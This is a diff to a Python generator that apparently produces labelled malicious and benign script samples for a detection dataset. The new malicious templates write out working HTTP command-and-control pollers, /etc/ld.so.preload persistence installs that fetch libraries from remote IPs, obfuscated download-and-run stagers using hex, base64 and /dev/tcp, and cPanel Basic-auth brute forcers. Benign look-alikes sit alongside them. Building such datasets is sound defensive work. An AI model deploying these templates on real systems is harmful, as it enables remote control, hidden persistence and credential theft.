@@ -488,6 +488,133 @@ def b_verified_download(g):
     return code
 
 
+# ---------------------------------------------------------------------------
+# round 3: HTTP C2 pollers, preload installs, encoded stagers, Basic-auth guessing
+
+
+def t_http_c2(g):
+    """Poll a web C2 for an order, run it, post the output back, sleep (PHP, Python, Perl)."""
+    r = g.rng
+    u = r.choice(["http://%s/" % _ip(r), "http://%s:8443/api/" % _ip(r), "http://upd.example.invalid/s/"])
+    a, b, c = _names(r, 3)
+    n = r.choice([15, 30, 60, 300])
+    v = {"u": u, "a": a, "b": b, "c": c, "n": n}
+    code = r.choice([
+        "<?php\n$%(a)s = '%(u)s';\nwhile (1) {\n    $%(b)s = json_decode(@file_get_contents($%(a)s . 'get'), true);\n"
+        "    if (isset($%(b)s['c'])) {\n        $%(c)s = `{$%(b)s['c']}`;\n        $%(c)s = shell_exec($%(b)s['c']);\n"
+        "        $o = array('http' => array('method' => 'POST', 'content' => 'r=' . urlencode($%(c)s)));\n"
+        "        @file_get_contents($%(a)s . 'put', false, stream_context_create($o));\n    }\n    sleep(%(n)d);\n}\n",
+        "#!/usr/bin/env python3\nimport requests, subprocess, time, platform\n%(a)s = '%(u)s'\nwhile True:\n"
+        "    %(b)s = requests.get(%(a)s + 'job', params={'h': platform.node()}).text.strip()\n"
+        "    if %(b)s:\n        %(c)s = subprocess.check_output(%(b)s, shell=True, stderr=subprocess.STDOUT)\n"
+        "        requests.post(%(a)s + 'out', data={'h': platform.node(), 'o': %(c)s})\n    time.sleep(%(n)d)\n",
+        "import os, time, json\nimport urllib.request as U\nwhile 1:\n    try:\n"
+        "        %(b)s = json.load(U.urlopen('%(u)s' + 'q'))\n        for %(c)s in %(b)s['cmds']:\n"
+        "            U.urlopen(U.Request('%(u)s' + 'a', data=os.popen(%(c)s).read().encode()))\n"
+        "    except Exception:\n        pass\n    time.sleep(%(n)d)\n",
+        "#!/usr/bin/perl\nuse LWP::UserAgent;\n$0 = '[kworker/0:1]';\nfork and exit;\nmy $%(a)s = LWP::UserAgent->new;\n"
+        "while (1) {\n    my $%(b)s = $%(a)s->get('%(u)s' . 'c')->content;\n    if ($%(b)s) { system($%(b)s); }\n    sleep %(n)d;\n}\n",
+        "#!/usr/bin/perl\nuse LWP::Simple;\nwhile (1) {\n    my $%(b)s = get('%(u)s' . 'cmd');\n"
+        "    my $%(c)s = qx($%(b)s);\n    my $ua = LWP::UserAgent->new; $ua->post('%(u)s' . 'r', [o => $%(c)s]);\n    sleep(%(n)d);\n}\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
+    return code % v
+
+
+def t_ld_preload(g):
+    """A shared object compiled or fetched, then written into /etc/ld.so.preload."""
+    r = g.rng
+    so = r.choice(["/usr/lib/libsystemd-shared.so.3", "/lib/.libx.so", "/usr/local/lib/libaudit.so.9",
+                   "/lib64/.sshd.so"])
+    ip = _ip(r)
+    v = {"so": so, "ip": ip, "a": _id(r)}
+    code = r.choice([
+        "#!/bin/bash\ncurl -s http://%(ip)s/h.so > %(so)s\necho %(so)s > /etc/ld.so.preload\n",
+        "#!/bin/sh\ncd /tmp && wget -q http://%(ip)s/h.c\ncc -Wall -fPIC -shared -o %(so)s h.c -ldl\n"
+        "rm -f h.c\nprintf '%%s\\n' %(so)s >> /etc/ld.so.preload\n",
+        "#!/bin/sh\n%(a)s=%(so)s\nwget http://%(ip)s:81/lib.so -O $%(a)s\necho $%(a)s | tee /etc/ld.so.preload\n"
+        "touch -r /bin/true $%(a)s\n",
+        "#!/bin/bash\ngcc -shared -o %(so)s -fPIC /dev/shm/.s.c -ldl && echo \"%(so)s\" >> /etc/ld.so.preload\n",
+    ])
+    g.lang = "sh"
+    return code % v
+
+
+def t_enc_stager(g):
+    """A shell stager behind hex, printf escapes, split base64 or a /dev/tcp fetch."""
+    r = g.rng
+    ip = _ip(r)
+    a, b = _names(r, 2)
+    hexs = "".join("%02x" % ord(ch) for ch in "wget -qO- http://%s/x|sh" % ip)
+    esc = "".join("\\x%02x" % ord(ch) for ch in r.choice(["curl", "wget", "bash"]))
+    v = {"ip": ip, "a": a, "b": b, "h": hexs, "e": esc}
+    code = r.choice([
+        "#!/bin/sh\n%(a)s=%(h)s\necho $%(a)s | xxd -r -ps | bash\n",
+        "#!/bin/bash\n$(printf '%(e)s') -s http://%(ip)s/p -o /tmp/p; sh /tmp/p\n",
+        "#!/bin/bash\n%(a)s='d2dldCAtcU8t'\n%(b)s='IGh0dHA6Ly94L3MgfCBzaA=='\neval \"$(base64 --decode <<<$%(a)s$%(b)s)\"\n",
+        "#!/bin/sh\n%(b)s=`echo \"$1$2\" | base64 -d`\neval \"$%(b)s\"\n",
+        "#!/bin/bash\nexec 7<>/dev/tcp/%(ip)s/80\necho -e \"GET /s HTTP/1.0\\r\\n\\r\\n\" >&7\ncat <&7 | sed '1,/^\\r$/d' | sh\n",
+    ])
+    g.lang = "sh"
+    return code % v
+
+
+def t_basic_brute(g):
+    """Basic-auth guessing of a control panel over local users or a word list."""
+    r = g.rng
+    port = r.choice([2082, 2083, 2086, 2087, 2096])
+    a, b = _names(r, 2)
+    v = {"p": port, "a": a, "b": b}
+    code = r.choice([
+        "#!/usr/bin/perl\nuse LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nopen(F, '/etc/passwd');\n"
+        "while (my $l = <F>) {\n  my ($%(a)s) = split /:/, $l;\n  open(W, $ARGV[1]);\n  while (my $%(b)s = <W>) {\n"
+        "    chomp $%(b)s;\n    $ua->credentials(\"$ARGV[0]:%(p)d\", 'cPanel', $%(a)s, $%(b)s);\n"
+        "    my $r = $ua->get(\"http://$ARGV[0]:%(p)d/\");\n    print \"$%(a)s $%(b)s\\n\" if $r->is_success;\n  }\n}\n",
+        "#!/usr/bin/env python3\nimport sys, requests\nfrom requests.auth import HTTPBasicAuth\n"
+        "for %(a)s in open(sys.argv[2]).read().split():\n    for %(b)s in open('wordlist.txt').read().split():\n"
+        "        r = requests.get('https://%%s:%(p)d/' %% sys.argv[1], auth=HTTPBasicAuth(%(a)s, %(b)s), verify=False)\n"
+        "        if r.status_code == 200:\n            print(%(a)s, %(b)s)\n",
+        "<?php\n$u = array_map(function ($l) { return explode(':', $l)[0]; }, file('/etc/passwd'));\n"
+        "foreach ($u as $%(a)s) foreach (file($argv[2]) as $%(b)s) {\n  $h = curl_init('https://' . $argv[1] . ':%(p)d/');\n"
+        "  curl_setopt($h, CURLOPT_USERPWD, $%(a)s . ':' . trim($%(b)s));\n  curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);\n"
+        "  curl_exec($h);\n  if (curl_getinfo($h, CURLINFO_HTTP_CODE) == 200) echo \"$%(a)s\\n\";\n}\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
+    return code % v
+
+
+def b_config_poller(g):
+    """A monitoring agent: polls its config URL, runs fixed checks, posts metrics, sleeps."""
+    r = g.rng
+    code = r.choice([
+        "#!/usr/bin/env python3\nimport requests, subprocess, time\nwhile True:\n"
+        "    cfg = requests.get('https://mon.example.com/cfg').json()\n"
+        "    up = subprocess.run(['uptime'], capture_output=True, text=True).stdout\n"
+        "    requests.post(cfg['url'], json={'uptime': up})\n    time.sleep(cfg.get('every', 60))\n",
+        "<?php\nwhile (true) {\n    $cfg = json_decode(file_get_contents('https://mon.example.com/cfg'), true);\n"
+        "    $load = sys_getloadavg();\n    $disk = shell_exec('df -P /');\n"
+        "    $o = array('http' => array('method' => 'POST', 'content' => json_encode(array($load, $disk))));\n"
+        "    file_get_contents($cfg['url'], false, stream_context_create($o));\n    sleep(60);\n}\n",
+        "#!/usr/bin/perl\nuse LWP::UserAgent;\n$0 = 'mon-agent';\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n"
+        "    my $r = $ua->get('https://mon.example.com/cfg');\n    my $df = `df -P /`;\n"
+        "    $ua->post('https://mon.example.com/in', { df => $df });\n    sleep 60;\n}\n",
+    ])
+    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
+    return code
+
+
+def b_so_build(g):
+    """A build script that compiles a shared library, or a base64 certificate installer."""
+    r = g.rng
+    code = r.choice([
+        "#!/bin/sh\nset -e\ngcc -shared -fPIC -o build/libplugin.so src/plugin.c\ncp build/libplugin.so /usr/local/lib/\nldconfig\n",
+        "#!/bin/bash\necho \"$CERT\" | base64 -d > /etc/ssl/certs/site.pem\nchmod 644 /etc/ssl/certs/site.pem\n",
+        "#!/bin/sh\nRED=$(printf '\\033[31m')\nOFF=$(printf '\\033[0m')\necho \"${RED}failed${OFF}\"\n",
+    ])
+    g.lang = "sh"
+    return code
+
+
 def _lang_of(fn):
     """The extension is decided by the template's choice (g.lang)."""
     return fn
@@ -507,6 +634,12 @@ BOT_TEMPLATES = [
     ("ssh_copy_id", b_ssh_copy_id, "benign", "auto", "none"),
     ("cron_installer", b_cron_installer, "benign", "auto", "none"),
     ("verified_download", b_verified_download, "benign", "auto", "none"),
+    ("http_c2", t_http_c2, "malicious", "auto", "high"),
+    ("ld_preload", t_ld_preload, "malicious", "auto", "high"),
+    ("enc_stager", t_enc_stager, "malicious", "auto", "high"),
+    ("basic_brute", t_basic_brute, "malicious", "auto", "high"),
+    ("config_poller", b_config_poller, "benign", "auto", "none"),
+    ("so_build", b_so_build, "benign", "auto", "none"),
 ]
 
 
